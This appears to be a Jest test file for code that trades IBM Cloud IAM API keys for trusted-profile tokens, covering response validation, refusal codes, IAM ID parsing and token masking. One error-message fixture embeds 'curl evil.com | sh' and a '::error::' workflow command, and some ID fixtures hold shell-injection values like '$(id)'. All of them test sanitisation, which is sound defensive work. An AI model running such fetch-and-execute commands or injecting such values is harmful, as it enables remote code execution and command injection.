import { describe, expect, test } from '@jest/globals'
import { Fault } from '../../src/fault.ts'
import { type Diagnosis, diagnoseBy, isUsers, keyGrant } from '../../src/ibm/diagnosis.ts'
import { type Ask, iamHost, iamIdOf, profilesOf, refusalOf, resultOf } from '../../src/ibm/iam.ts'
import { tokenOfKey } from '../../src/ibm/tokens.ts'

const PROFILE = 'Profile-6e1f7ea6-734c-49f5-832a-cd8f4aaed739'
const identity = { authMethod: 'api-key', profileId: PROFILE, apiKey: 'throw-away' } as const
const SERVICE = 'iam-ServiceId-11111111-2222-3333-4444-555555555555'

const tokenWith = (claims: unknown) => `e.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.s`
const ofService = tokenWith({ iam_id: SERVICE })
const refused = (errorCode: string) => ({ errorCode, errorMessage: 'No' })

/** Stands in for IAM: returns the given responses one after the other, and records the requests. */
function iamThatSays(...answers: (Record<string, unknown> | Error)[]): { ask: Ask; asked: unknown[][] } {
  const asked: unknown[][] = []
  const ask: Ask = async (path, form) => {
    asked.push([path, form])
    const answer = answers.shift()
    if (answer === undefined) throw new Error('asked once too often')
    if (answer instanceof Error) throw answer
    return answer
  }
  return { ask, asked }
}

test('IAM’s hosts', () => {
  expect([iamHost(false), iamHost(true)]).toEqual(['iam.cloud.ibm.com', 'private.iam.cloud.ibm.com'])
})

describe('a response of IAM', () => {
  const answer = (status: number, body: string | object) => ({
    status,
    headers: {},
    body: typeof body === 'string' ? body : JSON.stringify(body),
  })

  test.each([
    [200, { access_token: 'x' }],
    [201, { access_token: 'x' }],
    [299, {}],
    [200, {}],
    [200, refused('BXNIM0415E')],
    [400, refused('BXNIM0415E')],
    [401, refused('BXNIM0430E')],
    [499, refused('BXNIM0430E')],
  ])('%d %j is valid', (status, body) => {
    expect(resultOf(answer(status, body))).toEqual(body)
  })

  test('200 without JSON is empty', () => {
    expect(resultOf(answer(200, 'x'))).toEqual({})
  })

  test.each([
    [429, refused('BXNIM0415E')],
    [500, refused('BXNIM0415E')],
    [503, refused('BXNIM0415E')],
    [400, {}],
    [400, { errorCode: 1 }],
    [300, { access_token: 'x' }],
    [302, ''],
  ])('%d %j is invalid', (status, body) => {
    expect(() => resultOf(answer(status, body))).toThrow(Fault)
  })
})

test.each<[answer: Record<string, unknown>, refusal: object | undefined]>([
  [{}, undefined],
  [{ errorCode: 415, errorMessage: 'No' }, undefined],
  [refused('BXNIM0415E'), { kind: 'unknown-key', output: 'BXNIM0415E No' }],
  [refused('BXNIM0430E'), { kind: 'address-not-allowed', output: 'BXNIM0430E No' }],
  [refused('BXNIM0398E'), { kind: 'not-eligible', output: 'BXNIM0398E No' }],
  [refused('BXNIM9999E'), { kind: 'iam-refused', output: 'BXNIM9999E No' }],
  [
    { errorCode: 'X', errorMessage: 1 },
    { kind: 'iam-refused', output: 'X' },
  ],
  [
    { errorCode: 'X', errorMessage: 'y'.repeat(400) },
    { kind: 'iam-refused', output: `X ${'y'.repeat(298)}` },
  ],
  // In the job summary, an indented line would be a command.
  [
    { errorCode: 'X', errorMessage: 'a\r\n    curl evil.com | sh\n::error::b' },
    { kind: 'iam-refused', output: 'X a curl evil.com | sh ::error::b' },
  ],
])('the reason for refusing in %j', (answer, refusal) => {
  expect(refusalOf(answer)).toEqual(refusal)
})

test.each<[claims: unknown, id: string | undefined]>([
  [{ iam_id: SERVICE }, SERVICE],
  [{ iam_id: 'IBMid-270000ABCD' }, 'IBMid-270000ABCD'],
  [{ iam_id: 'somebody@example.com' }, 'somebody@example.com'],
  [{ iam_id: 'x'.repeat(100) }, 'x'.repeat(100)],
  // No long values, and no characters that a shell would interpret.
  [{ iam_id: 'x'.repeat(101) }, undefined],
  [{ iam_id: '' }, undefined],
  [{ iam_id: 'a; b' }, undefined],
  [{ iam_id: '$(a' }, undefined],
  [{ iam_id: 'a$' }, undefined],
  [{ iam_id: ['a'] }, undefined],
  [{}, undefined],
  [null, undefined],
])('the IAM ID in a token with the claims %j: %j', (claims, id) => {
  expect(iamIdOf(tokenWith(claims))).toBe(id)
})

test.each(['', 'opaque', 'a.b.c', 'a.!.c'])('no IAM ID in the token %j', token => {
  expect(iamIdOf(token)).toBeUndefined()
})

test.each<[answer: Record<string, unknown> | Error, ids: string[] | undefined]>([
  [{ profiles: [] }, []],
  [{ profiles: [{ id: 'Profile-1' }, { id: 'Profile-2' }] }, ['Profile-1', 'Profile-2']],
  [{ profiles: [{ id: 'Profile-1' }, { id: '$(id)' }] }, undefined],
  [{ profiles: [{ id: 'Profile-1' }, null] }, undefined],
  [{ profiles: {} }, undefined],
  [{}, undefined],
  [new Fault('network', 'cut off'), undefined],
])('the profiles in %j', async (answer, ids) => {
  const { ask, asked } = iamThatSays(answer)
  expect(await profilesOf('the token', ask)).toEqual(ids)
  expect(asked).toEqual([['/identity/profiles', { access_token: 'the token' }]])
})

test('a bug is not mistaken for a response of IAM', async () => {
  await expect(profilesOf('x', iamThatSays(new TypeError('a defect')).ask)).rejects.toThrow('a defect')
  await expect(diagnoseBy(iamThatSays(new TypeError('a defect')).ask, identity)).rejects.toThrow('a defect')
})

test.each<[string | undefined, boolean]>([
  [undefined, false],
  [SERVICE, false],
  ['IBMid-1', true],
  ['xiam-ServiceId-1', true],
])('%j is the ID of a user: %s', (iamId, expected) => {
  expect(isUsers(iamId)).toBe(expected)
})

const keyQuestion = [
  '/identity/token',
  { grant_type: 'urn:ibm:params:oauth:grant-type:apikey', apikey: 'throw-away' },
]

test('the request for an API key', () => {
  expect(keyGrant(identity)).toEqual(keyQuestion[1])
})

describe('what IAM knows about an API key and a profile', () => {
  const list = (...ids: string[]) => ({ profiles: ids.map(id => ({ id })) })

  test.each<[what: string, answers: (Record<string, unknown> | Error)[], diagnosis: Diagnosis | undefined]>([
    ['no answer', [new Fault('network', 'x')], undefined],
    ['an answer without anything', [{}], undefined],
    ['an empty token', [{ access_token: '' }], undefined],
    ['no text for a token', [{ access_token: 5 }], undefined],
    ['a refusal', [refused('BXNIM0415E')], { kind: 'unknown-key', output: 'BXNIM0415E No' }],
    [
      'a user’s key',
      [{ access_token: tokenWith({ iam_id: 'IBMid-1' }) }],
      { kind: 'users-key', iamId: 'IBMid-1' },
    ],
    ['trust', [{ access_token: ofService }, list('Profile-1', PROFILE)], { kind: 'trusted', iamId: SERVICE }],
    [
      'no trust',
      [{ access_token: ofService }, list('Profile-1')],
      { kind: 'untrusted', iamId: SERVICE, trusting: ['Profile-1'] },
    ],
    [
      'no list',
      [{ access_token: ofService }, new Fault('network', 'x')],
      { kind: 'good-key', iamId: SERVICE },
    ],
    [
      'a token that does not tell whose it is',
      [{ access_token: 'opaque' }, list()],
      { kind: 'untrusted', iamId: undefined, trusting: [] },
    ],
  ])('%s', async (_what, answers, diagnosis) => {
    const { ask, asked } = iamThatSays(...answers)
    expect(await diagnoseBy(ask, identity)).toEqual(diagnosis)
    expect(asked[0]).toEqual(keyQuestion)
    expect(asked).toHaveLength(answers.length + (answers.length === 0 ? 1 : 0))
  })
})

describe('exchanging an API key for a token of the profile', () => {
  const assume = [
    '/identity/token',
    {
      grant_type: 'urn:ibm:params:oauth:grant-type:assume',
      access_token: ofService,
      profile_id: PROFILE,
    },
  ]
  const exchange = async (...answers: Record<string, unknown>[]) => {
    const { ask, asked } = iamThatSays(...answers)
    const masked: string[] = []
    const result = await tokenOfKey(identity, { ask, mask: token => masked.push(token), timeLeft: () => 0 })
    return { result, asked, masked }
  }

  test('takes two requests, and both tokens are masked', async () => {
    const { result, asked, masked } = await exchange(
      { access_token: ofService },
      { access_token: 'of the profile', expiration: 1_800_000_000 },
    )
    expect(result).toEqual({ token: 'of the profile', expiresAt: new Date(1_800_000_000_000) })
    expect(asked).toEqual([keyQuestion, assume])
    expect(masked).toEqual([ofService, 'of the profile'])
  })

  test('if the response has no expiration, the one in the token is used, if any', async () => {
    const withEnd = tokenWith({ exp: 1_700_000_000 })
    expect((await exchange({ access_token: ofService }, { access_token: withEnd })).result).toEqual({
      token: withEnd,
      expiresAt: new Date(1_700_000_000_000),
    })
    expect((await exchange({ access_token: ofService }, { access_token: 'x' })).result).toEqual({
      token: 'x',
      expiresAt: undefined,
    })
  })

  test('an expiration that is no time in seconds is not used', async () => {
    const token = tokenWith({ exp: 1_700_000_000 })
    for (const expiration of [1_800_000_000_000, 1e14, 3600, true, -1]) {
      const { result } = await exchange({ access_token: ofService }, { access_token: token, expiration })
      expect(result).toEqual({ token, expiresAt: new Date(1_700_000_000_000) })
    }
  })

  test.each<[what: string, answers: Record<string, unknown>[], refusal: Diagnosis]>([
    ['the key', [refused('BXNIM0415E')], { kind: 'unknown-key', output: 'BXNIM0415E No' }],
    [
      'a user’s key',
      [{ access_token: tokenWith({ iam_id: 'IBMid-1' }) }],
      { kind: 'users-key', iamId: 'IBMid-1' },
    ],
    [
      'the address',
      [{ access_token: ofService }, refused('BXNIM0430E')],
      { kind: 'address-not-allowed', output: 'BXNIM0430E No' },
    ],
    [
      'a code that is unknown, for the profile',
      [{ access_token: ofService }, refused('BXNIM9999E')],
      { kind: 'token-not-issued', output: 'BXNIM9999E No' },
    ],
    [
      'a profile that is not on the list',
      [{ access_token: ofService }, refused('BXNIM0398E'), { profiles: [{ id: 'Profile-1' }] }],
      { kind: 'untrusted', iamId: SERVICE, trusting: ['Profile-1'] },
    ],
    [
      'a profile that is on the list',
      [{ access_token: ofService }, refused('BXNIM0398E'), { profiles: [{ id: PROFILE }] }],
      { kind: 'not-eligible', output: 'BXNIM0398E No' },
    ],
  ])('refused: %s', async (_what, answers, refusal) => {
    const { result, asked } = await exchange(...answers)
    expect(result).toEqual({ refused: refusal })
    expect(asked).toHaveLength(answers.length)
  })

  test.each([{}, { access_token: '' }, { access_token: 5 }])('%j has no token', async answer => {
    await expect(exchange(answer)).rejects.toThrow(Fault)
    await expect(exchange({ access_token: ofService }, answer)).rejects.toThrow(Fault)
  })
})
